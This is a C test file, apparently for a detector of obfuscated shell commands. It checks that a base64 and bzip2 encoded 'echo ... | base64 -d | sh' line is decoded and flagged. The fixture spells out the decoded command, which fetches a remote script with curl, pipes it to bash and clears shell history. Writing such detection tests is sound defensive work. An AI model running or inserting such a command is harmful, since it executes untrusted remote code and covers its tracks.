// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "base64+bzip2",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo QlpoOTFBWSZTWdieIXAAABBfgAAQQAPi+AAECAA5ZN5kIABBFNHqaBo"
		"xlGQbaoYwAAAAE2oJTpmW8uAskN6Ji4lP2HVu41q4ywJ9mIBosNctAu0Pxdy"
		"RThQkNieIXAA= | base64 -d | sh" },
};

static const char *const not [] = {
	"echo QlpoOTFBWSY= > file",
	"bzip2 -dc file.bz2 | tar x",
};

static const char *const unpackers[] = {
#define UNPACKER(name) #name,
#include "unpackers.def"
#undef UNPACKER
};

int main(void)
{
	bool has = false;

	check.module = "decode bzip2";
	for (size_t i = 0; i < sizeof(unpackers) / sizeof(unpackers[0]); i++)
		has |= !strcmp(unpackers[i], "bzip2");
	if (has)
		hidden_good(good, sizeof(good) / sizeof(good[0]));
	else
		check_skip("bzip2", "built without it");
	hidden_not(not, sizeof(not ) / sizeof(not [0]));
	return check_end();
}
